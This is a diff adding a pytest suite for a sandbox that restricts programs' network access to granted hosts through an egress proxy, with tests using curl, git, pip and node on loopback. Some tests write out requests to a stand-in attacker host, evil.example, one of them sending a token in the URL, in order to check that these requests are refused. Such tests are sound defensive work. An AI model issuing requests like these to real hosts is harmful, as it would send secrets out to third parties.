@@ -1,0 +1,352 @@
+"""A program that was granted hosts reaches them by the proxy, and nothing by other ways; real programs on loopback."""
+
+from __future__ import annotations
+
+import functools
+import http.server
+import json
+import os
+import secrets
+import shutil
+import signal
+import socket
+import subprocess
+import sys
+import threading
+import time
+import zipfile
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from inarch import Rights, ToolFailed
+from inarch_confinement import features
+from inarch_sandbox_fs.workspace import FolderWorkspace
+
+from ..forking import LONGEST_S
+from .test_processes_protecting import as_users, needs, opened, place, run
+
+assert place  # a fixture
+
+pytestmark = [
+    pytest.mark.once,
+    pytest.mark.skipif(not features().network_namespace, reason=f"needs network namespaces: {features()}"),
+]
+HOWS = ("full", pytest.param("bwrap", marks=pytest.mark.needs("bwrap")))
+PYTHON = "python3"
+
+
+class Quiet(http.server.SimpleHTTPRequestHandler):
+    """Serves files and says nothing."""
+
+    def log_message(self, *_: object) -> None:
+        pass
+
+
+@pytest.fixture
+def site(place: Path) -> Iterator[tuple[Path, int]]:
+    """A server of files on loopback: its folder and its port."""
+    folder = place / "site"
+    folder.mkdir()
+    (folder / "file").write_text("served\n")
+    handler = functools.partial(Quiet, directory=str(folder))
+    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
+        thread = threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True)
+        thread.start()
+        yield folder, server.server_port
+        server.shutdown()
+        thread.join()
+
+
+class Workplace:
+    """A workspace of a user in which programs may reach one host."""
+
+    def __init__(self, place: Path, user: int, how: str, port: int) -> None:
+        needs(how)
+        self.user, self.how, self.root, self.home = user, how, place / "ws", place / "home"
+        self.hosts = [f"localhost:{port}"]
+        for folder in (self.root, self.home):
+            folder.mkdir(exist_ok=True)
+            os.chown(folder, user, user)
+
+    def runs(self, *argv: str, **more: Any) -> dict[str, Any]:
+        asked = {"root": str(self.root), "how": self.how, "home": str(self.home), "argv": argv, "hosts": self.hosts}
+        return run(self.user, [{**asked, **more}])[0]
+
+
+@pytest.mark.needs("curl")
+@as_users
+@pytest.mark.parametrize("how", HOWS)
+def test_curl_reaches_what_is_granted(place: Path, site: tuple[Path, int], user: int, how: str) -> None:
+    work = Workplace(place, user, how, site[1])
+    url = f"http://localhost:{site[1]}/file"
+    for words in (("curl", "-sS", url), ("curl", "-sS", "--proxytunnel", url)):
+        ran = work.runs(*words)
+        assert (ran["output"], ran["exit"]) == ("served\n", 0), ran
+        assert ran["notes"] == [f"this command reached localhost:{site[1]}"]
+    refused = work.runs("curl", "-sSf", "https://evil.example/secret?token=x")
+    assert "403" in refused["errors"] and refused["exit"]
+    told = " ".join(refused["notes"])
+    assert "evil.example:443 was refused" in told and "must use the proxy" in told and "secret" not in told
+    ignoring = work.runs("curl", "-sS", "--noproxy", "*", url)
+    assert ignoring["exit"] and f"this command may reach only localhost:{site[1]}; it must use" in ignoring["notes"][0]
+
+
+@pytest.mark.needs("git")
+def test_git_clones_over_http(place: Path, site: tuple[Path, int]) -> None:
+    made = str(place / "made")
+    git = ["git", "-c", "user.name=A", "-c", "user.email=a@b.c"]
+    subprocess.run([*git, "init", "-q", made], check=True)
+    subprocess.run([*git, "commit", "-qm", "first", "--allow-empty"], cwd=made, check=True)
+    subprocess.run(["git", "clone", "-q", "--bare", made, str(site[0] / "made.git")], check=True)
+    subprocess.run(["git", "update-server-info"], cwd=site[0] / "made.git", check=True)
+    work = Workplace(place, os.geteuid(), "full", site[1])
+    ran = work.runs(
+        "env", "GIT_CONFIG_NOSYSTEM=1", "git", "clone", "-q", f"http://localhost:{site[1]}/made.git", "clone"
+    )
+    assert ran["exit"] == 0, ran
+    other = work.runs("env", "GIT_CONFIG_NOSYSTEM=1", "git", "clone", "-q", "http://evil.example/made.git", "other")
+    assert other["exit"] and "evil.example:80 was refused" in " ".join(other["notes"])
+
+
+@pytest.mark.needs("pip")
+def test_pip_downloads_from_an_index_by_its_name(place: Path, site: tuple[Path, int]) -> None:
+    index = site[0] / "simple/small-thing"
+    index.mkdir(parents=True)
+    wheel = "small_thing-1.0-py3-none-any.whl"
+    with zipfile.ZipFile(index / wheel, "w") as file:
+        about = "small_thing-1.0.dist-info"
+        file.writestr(f"{about}/METADATA", "Metadata-Version: 2.1\nName: small-thing\nVersion: 1.0\n")
+        file.writestr(f"{about}/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
+        file.writestr(f"{about}/RECORD", "")
+    (index / "index.html").write_text(f'<a href="{wheel}">{wheel}</a>')
+    work = Workplace(place, os.geteuid(), "full", site[1])
+    words = ("-m", "pip", "download", "-q", "--no-cache-dir", "--disable-pip-version-check", "--no-deps")
+    url = f"http://localhost:{site[1]}/simple"
+    ran = work.runs(sys.executable, *words, "--index-url", url, "--trusted-host", "localhost", "small-thing")
+    assert ran["exit"] == 0, ran
+    assert (work.root / wheel).exists()
+
+
+@pytest.mark.needs("node")
+def test_node_finds_the_proxy_by_its_variables(place: Path, site: tuple[Path, int]) -> None:
+    (place / "ws").mkdir()
+    code = """
+const proxy = new URL(process.env.HTTP_PROXY);
+const asked = { host: proxy.hostname, port: proxy.port, path: process.argv[2] };
+require("http").get(asked, (answer) => { console.log(answer.statusCode); answer.pipe(process.stdout); });
+"""
+    (place / "ws/get.js").write_text(code)
+    work = Workplace(place, os.geteuid(), "full", site[1])
+    assert work.runs("node", "get.js", f"http://localhost:{site[1]}/file")["output"] == "200\nserved\n"
+    assert work.runs("node", "get.js", "http://evil.example/")["output"].startswith("403\n")
+
+
+@as_users
+@pytest.mark.parametrize("how", HOWS)
+def test_a_server_of_its_own_is_reached_directly(place: Path, site: tuple[Path, int], user: int, how: str) -> None:
+    (place / "ws").mkdir()
+    (place / "ws/own.py").write_text("""
+import http.server, os, threading, urllib.request
+server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), http.server.SimpleHTTPRequestHandler)
+threading.Thread(target=server.serve_forever, daemon=True).start()
+print(urllib.request.urlopen(f"http://127.0.0.1:{server.server_port}/own.py").status)
+print(urllib.request.urlopen(os.sys.argv[1]).read().decode(), end="")
+""")
+    ran = Workplace(place, user, how, site[1]).runs(PYTHON, "own.py", f"http://localhost:{site[1]}/file")
+    assert ran["output"] == "200\nserved\n", ran
+
+
+@as_users
+@pytest.mark.parametrize("how", HOWS)
+def test_nothing_is_reached_beside_the_proxy(place: Path, site: tuple[Path, int], user: int, how: str) -> None:
+    work = Workplace(place, user, how, site[1])
+    shutil.copy(Path(__file__).with_name("reaching_attempts.py"), work.root)
+    name = f"inarch-{secrets.token_hex(8)}"
+    with (
+        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams,
+        socket.socket(socket.AF_UNIX) as abstract,
+        socket.socket(socket.AF_UNIX) as named,
+        socket.create_server(("127.0.0.1", 0)) as other,
+    ):
+        datagrams.bind(("127.0.0.1", 0))
+        threading.Thread(target=_echo, args=(datagrams,), daemon=True).start()
+        abstract.bind(f"\0{name}")
+        abstract.listen()
+        named.bind(str(work.root / "socket"))
+        os.chown(work.root / "socket", user, user)
+        named.listen()
+        elsewhere = f"localhost:{other.getsockname()[1]}"
+        things = {
+            "port": site[1], "datagrams": datagrams.getsockname()[1], "abstract": name,
+            "named": str(work.root / "socket"), "address": _own_address(), "other": elsewhere,
+        }  # fmt: skip
+        beside = FolderWorkspace.open(str(place / "site"))  # a program with another proxy, beside it
+        ending = threading.Event()
+        thread = threading.Thread(target=_beside, args=(beside, elsewhere, ending))
+        thread.start()
+        try:
+            ran = work.runs(PYTHON, "reaching_attempts.py", json.dumps(things))
+        finally:
+            ending.set()
+            thread.join()
+            beside.close()
+    assert ran["exit"] == 0, ran
+    told = json.loads(ran["output"])
+    if how == "bwrap":  # it has no filter of system calls: what is left reaches no network
+        told["done"] = [one for one in told["done"] if one not in BWRAP_LEAVES]
+    assert told["done"] == [], told
+
+
+BWRAP_LEAVES = {"packages", "other families", "machines", "unshare", "proxy's memory"}
+
+
+def _echo(end: socket.socket) -> None:
+    try:
+        while True:
+            data, whence = end.recvfrom(16)
+            end.sendto(data, whence)
+    except OSError:
+        pass
+
+
+def _own_address() -> str:
+    """Return an address of this machine that is not loopback, or the documentation's where it has none."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
+        try:
+            end.connect(("192.0.2.1", 9))  # nothing is sent
+            return str(end.getsockname()[0])
+        except OSError:
+            return "192.0.2.1"
+
+
+def _beside(workspace: FolderWorkspace, host: str, ending: threading.Event) -> None:
+    from inarch import Cancelled
+
+    try:
+        workspace.run(["sleep", "60"], Rights(executes=True, hosts=(host,)), cancelled=ending, timeout_s=90)
+    except Cancelled:
+        pass
+
+
+TWICE = """
+import os, sys, time, urllib.request
+print(urllib.request.urlopen(sys.argv[1]).status, flush=True)
+open("once", "w").close()
+while not os.path.exists("go"):
+    time.sleep(0.01)
+urllib.request.urlopen(sys.argv[1])
+"""
+
+
+def proxies_of(parent: int) -> list[int]:
+    """Return the proxies that a process has started."""
+    children = [Path(f"/proc/{parent}/task/{task}/children") for task in os.listdir(f"/proc/{parent}/task")]
+    found = [int(pid) for file in children for pid in file.read_text().split()]
+    return [pid for pid in found if b"inarch_egress" in Path(f"/proc/{pid}/cmdline").read_bytes()]
+
+
+def wait_for(holds: Callable[[], object], what: str) -> None:
+    deadline = time.monotonic() + LONGEST_S
+    while not holds():
+        assert time.monotonic() < deadline, what
+        time.sleep(0.01)
+
+
+def test_a_program_whose_proxy_is_killed_has_no_network_and_that_is_told(place: Path, site: tuple[Path, int]) -> None:
+    root = place / "ws"
+    root.mkdir()
+    (root / "twice.py").write_text(TWICE)
+    workspace = FolderWorkspace.open(str(root))
+
+    def kill() -> None:
+        wait_for((root / "once").exists, "the first request")
+        for pid in proxies_of(os.getpid()):
+            os.kill(pid, signal.SIGKILL)
+        (root / "go").touch()
+
+    thread = threading.Thread(target=kill)
+    thread.start()
+    try:
+        hosts = (f"localhost:{site[1]}",)
+        words = [PYTHON, "twice.py", f"http://{hosts[0]}/file"]
+        ran = workspace.run(words, Rights(writes=("",), executes=True, hosts=hosts))
+    finally:
+        thread.join()
+        workspace.close()
+    assert ran.output == b"200\n" and ran.exit_code == 1
+    assert "the proxy was killed by signal 9; from then on this command had no network" in ran.notes
+
+
+def test_no_proxy_is_left_when_its_program_has_ended(place: Path) -> None:
+    (place / "ws").mkdir()
+    workspace = FolderWorkspace.open(str(place / "ws"))
+    try:
+        daemon = "import os, time\nif os.fork(): os._exit(0)\nos.setsid()\nos.fork()\ntime.sleep(600)"
+        rights = Rights(executes=True, hosts=("pypi.example",))
+        assert workspace.run([PYTHON, "-c", daemon], rights).exit_code == 0
+        assert proxies_of(os.getpid()) == []
+        with pytest.raises(ToolFailed, match="there is no program"):
+            workspace.run(["no-such-program"], rights)
+        with pytest.raises(ToolFailed):
+            workspace.run([PYTHON, "-c", "import time; time.sleep(600)"], rights, timeout_s=-1)
+        assert workspace.run([PYTHON, "-c", "import time; time.sleep(600)"], rights, timeout_s=0.5).timed_out
+        assert proxies_of(os.getpid()) == []
+    finally:
+        workspace.close()
+
+
+def test_no_proxy_is_left_when_inarch_is_killed(place: Path) -> None:
+    root = place / "ws"
+    root.mkdir()
+    code = f"""
+from inarch import Rights, ToolFailed
+from inarch_sandbox_fs.workspace import FolderWorkspace
+workspace = FolderWorkspace.open({str(root)!r})
+words = ["sh", "-c", "touch started; sleep 600"]
+workspace.run(words, Rights(writes=("",), executes=True, hosts=("pypi.example",)), timeout_s=600)
+"""
+    inarch = subprocess.Popen([sys.executable, "-c", code])
+    try:
+        wait_for((root / "started").exists, "the program's start")
+        (proxy,) = proxies_of(inarch.pid)
+    finally:
+        inarch.kill()
+        inarch.wait()
+    wait_for(lambda: not _runs(proxy), "the proxy's end")
+
+
+def _runs(pid: int) -> bool:
+    """Whether a process is there and not merely waiting to be reaped."""
+    try:
+        return Path(f"/proc/{pid}/stat").read_text().rpartition(") ")[2][0] not in "ZX"
+    except OSError:
+        return False
+
+
+def test_without_namespaces_it_is_refused_with_the_reason(place: Path) -> None:
+    (place / "ws").mkdir()
+    workspace = opened(str(place / "ws"), "bare")
+    try:
+        with pytest.raises(ToolFailed, match="can't be held to hosts here") as caught:
+            workspace.run(["true"], Rights(executes=True, hosts=("pypi.example",)))
+        assert "inarch doctor" in caught.value.remedy and "network = true" in caught.value.remedy
+        assert proxies_of(os.getpid()) == []
+    finally:
+        workspace.close()
+
+
+def test_a_proxy_that_cannot_be_started_is_one_clear_error(place: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    (place / "ws").mkdir()
+    workspace = FolderWorkspace.open(str(place / "ws"))
+    try:
+        workspace.run(["true"], Rights(executes=True))  # the server is there
+        monkeypatch.setattr(sys, "executable", str(place / "none"))
+        with pytest.raises(ToolFailed, match=r"the proxy to .* can't be started"):
+            workspace.run(["true"], Rights(executes=True, hosts=("pypi.example",)))
+        with pytest.raises(ToolFailed, match="can't be started"):
+            workspace.run(["true"], Rights(executes=True, hosts=("no host",)))
+    finally:
+        workspace.close()
